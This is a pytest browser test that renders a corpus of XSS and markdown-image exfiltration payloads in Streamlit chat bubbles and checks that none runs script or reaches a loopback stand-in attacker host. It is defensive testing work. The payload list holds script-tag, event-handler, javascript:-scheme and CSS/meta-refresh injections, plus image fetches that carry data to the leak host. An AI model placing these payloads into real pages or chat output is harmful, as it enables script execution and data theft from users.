"""XSS and exfiltration payloads rendered in real chat bubbles, in a real Chromium (OWASP LLM05).

``tests/browser/xss_harness.py`` runs under ``streamlit run`` and shows every payload with
``show.markdown`` inside ``st.chat_message``, as the chat page does. A loopback "leak" server
stands in for an attacker's host: a payload that makes the browser fetch anything from it has
carried data out. A second loopback server is allow-listed for images, so the test also proves
that an allowed image does load (otherwise "nothing reached the leak server" would prove little).
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import IO

import httpx
import pytest
from playwright.sync_api import Browser, Dialog, expect

from tests.browser.leak_server import (
    ALLOWED_HOST,
    ALLOWED_IMAGE_PATH,
    LEAK_HOST,
    RecordingServer,
    recording_server,
)

pytestmark = pytest.mark.browser

REPO_ROOT = Path(__file__).resolve().parents[2]
HARNESS = Path(__file__).with_name("xss_harness.py")
SCRUBBED_ENV_PREFIXES = ("NEXUS_", "GEMINI_", "OPENAI_", "STREAMLIT_")
STARTUP_TIMEOUT_SECONDS = 60.0
STOP_TIMEOUT_SECONDS = 10.0
RENDER_TIMEOUT_MS = 30_000
# Time left for lazy loads (images, CSS, refreshes) after every bubble is on screen.
LATE_LOAD_WAIT_MS = 2_500
LOG_TAIL_CHARS = 4000
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
ACTIVE_ELEMENTS = "script, iframe, object, embed, form, meta, base, link, style, video, audio"


@pytest.fixture(scope="module")
def leak_server() -> Iterator[RecordingServer]:
    """The attacker's host: nothing may ever reach it."""
    with recording_server(LEAK_HOST) as recording:
        yield recording


@pytest.fixture(scope="module")
def allowed_image_server() -> Iterator[RecordingServer]:
    """An allow-listed image host, the control that shows images do load when allowed."""
    with recording_server(ALLOWED_HOST) as recording:
        yield recording


def xss_corpus(leak: str, allowed: str) -> list[str]:
    """Payloads that try to run script, or to make the browser fetch from ``leak``."""
    return [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "[click](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        f"![x](http://{leak}/leak?d=secret)",
        f"![ref image][r]\n\n[r]: http://{leak}/reference-image",
        f"![x][]\n\n[x]: http://{leak}/collapsed-image",
        f'<img src="http://{leak}/img-tag">',
        '<a href="javascript:alert(1)">x</a>',
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        f"<style>@import 'http://{leak}/css-import'</style>",
        f"<link rel=stylesheet href=http://{leak}/link-tag>",
        "<video><source onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<javascript:alert(1)>",
        f'![titled](http://{leak}/titled "a title")',
        f"<object data=http://{leak}/object></object>",
        f"<embed src=http://{leak}/embed>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        f'<meta http-equiv=refresh content="0;url=http://{leak}/meta-refresh">',
        f"<base href=http://{leak}/>",
        f"![x](//{leak}/scheme-relative)",
        f'<div style="background:url(http://{leak}/css-background)">x</div>',
        "| a | b |\n|---|---|\n| [cell](javascript:alert(1)) | ok |",
        "[ref link][j]\n\n[j]: javascript:alert(1)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        f"[![nested](http://{leak}/nested)](https://example.com)",
        f"[![nested](http://{leak}/nested-js)](javascript:alert(1))",
        f"**![bold](http://{leak}/bold)** and :blue-background[![x](http://{leak}/directive)]",
        "$\\href{javascript:alert(1)}{x}$",
        f"$\\includegraphics{{http://{leak}/katex}}$",
        f':color[x]{{background="url(http://{leak}/directive-style)"}}',
        # Where Streamlit's parser (micromark) reads differently from plain CommonMark:
        f"   ![x](http://{leak}/dedented)\n   indented like code, but st.markdown dedents",
        f"www.example.com/`x ![y](http://{leak}/gfm-literal) `",
        f"<object data=![x](http://{leak}/unquoted-attribute)>",
        f"<span data=http://x>\n![x](http://{leak}/html-block)",
        f"<span\u00a0title='![x](http://{leak}/nbsp-tag)'>",
        f"[^1]\n\n[^1]: ![x](http://{leak}/footnote)",
        f"$a$ $`$ ![x](http://{leak}/math-inline) `",
        f"$a$ and $$\n![x](http://{leak}/math-block)\n$$",
        "> " * 30 + f"![x](http://{leak}/deep-quote)",
        "[" * 60 + f"![x](http://{leak}/deep-brackets)" + "]" * 60,
        # The control: an allow-listed image must load.
        f"![allowed](http://{allowed}{ALLOWED_IMAGE_PATH})",
    ]


@dataclass(frozen=True)
class XssApp:
    url: str
    payloads: list[str]
    log_path: Path


def _server_env(payload_file: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(SCRUBBED_ENV_PREFIXES)}
    env.update(
        NEXUS_XSS_PAYLOADS=str(payload_file),
        NEXUS_XSS_IMAGE_HOSTS=json.dumps([ALLOWED_HOST]),
        STREAMLIT_BROWSER_GATHER_USAGE_STATS="false",
    )
    return env


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _wait_until_healthy(process: subprocess.Popen[bytes], url: str, log_path: Path) -> None:
    deadline = time.monotonic() + STARTUP_TIMEOUT_SECONDS
    with httpx.Client(timeout=2.0) as client:
        while time.monotonic() < deadline:
            if process.poll() is not None:
                pytest.fail(f"the harness exited early:\n{log_path.read_text(errors='replace')}")
            try:
                if client.get(f"{url}/_stcore/health").status_code == 200:
                    return
            except httpx.TransportError:
                pass
            time.sleep(0.2)  # polling a server that is still starting
    pytest.fail(f"the harness was not healthy in time:\n{log_path.read_text(errors='replace')}")


@pytest.fixture(scope="module")
def xss_app(
    tmp_path_factory: pytest.TempPathFactory,
    chromium_path: str,
    leak_server: RecordingServer,
    allowed_image_server: RecordingServer,
) -> Iterator[XssApp]:
    """``streamlit run xss_harness.py`` on a free loopback port, showing the whole corpus."""
    root = tmp_path_factory.mktemp("xss")
    payloads = xss_corpus(leak_server.origin, allowed_image_server.origin)
    payload_file = root / "payloads.json"
    payload_file.write_text(json.dumps(payloads), encoding="utf-8")
    port = _free_port()
    url = f"http://127.0.0.1:{port}"
    log_path = root / "server.log"
    log: IO[bytes] = log_path.open("wb")
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "streamlit", "run", str(HARNESS)),
            *("--server.port", str(port), "--server.address", "127.0.0.1"),
            *("--server.headless", "true", "--server.fileWatcherType", "none"),
        ],
        cwd=REPO_ROOT,
        env=_server_env(payload_file),
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        _wait_until_healthy(process, url, log_path)
        yield XssApp(url=url, payloads=payloads, log_path=log_path)
    finally:
        process.terminate()
        try:
            process.wait(timeout=STOP_TIMEOUT_SECONDS)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        log.close()


def test_corpus_runs_no_script_and_sends_nothing_to_an_outside_host(
    xss_app: XssApp,
    browser: Browser,
    leak_server: RecordingServer,
    allowed_image_server: RecordingServer,
) -> None:
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    context = browser.new_context()
    try:
        page = context.new_page()
        page.on("dialog", dismiss)
        page.goto(xss_app.url)
        bubbles = page.locator('[data-testid="stChatMessage"]')
        try:
            expect(bubbles).to_have_count(len(xss_app.payloads), timeout=RENDER_TIMEOUT_MS)
        except AssertionError as exc:
            output = xss_app.log_path.read_text(errors="replace")[-LOG_TAIL_CHARS:]
            raise AssertionError(f"{exc}\nthe harness's output ends:\n{output}") from exc
        allowed_image = page.locator(f'img[src*="{allowed_image_server.origin}"]')
        expect(allowed_image).to_have_count(1, timeout=RENDER_TIMEOUT_MS)
        page.wait_for_timeout(LATE_LOAD_WAIT_MS)

        content = page.locator('[data-testid="stChatMessageContent"]')
        hrefs = content.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
        srcs = content.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
        active = content.locator(ACTIVE_ELEMENTS).evaluate_all("els => els.map(e => e.tagName)")
        handlers = content.locator("*").evaluate_all(
            "els => els.flatMap(e => [...e.attributes].map(a => a.name))"
            ".filter(n => n.startsWith('on'))"
        )
        visible_text = content.all_inner_texts()
        allowed_paths = allowed_image_server.seen()
    finally:
        context.close()

    assert dialogs == []
    assert leak_server.seen() == []
    assert allowed_paths == [ALLOWED_IMAGE_PATH]
    assert [h for h in hrefs if (h or "").strip().lower().startswith(DANGEROUS_SCHEMES)] == []
    assert [s for s in srcs if leak_server.origin in (s or "")] == []
    assert active == []
    assert handlers == []
    shown = "\n".join(visible_text)
    for literal in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "javascript:alert(1)",
    ):
        assert literal in shown
    # A blocked image stays reachable as an ordinary link the user may choose to open.
    assert f"http://{leak_server.origin}/leak?d=secret" in hrefs
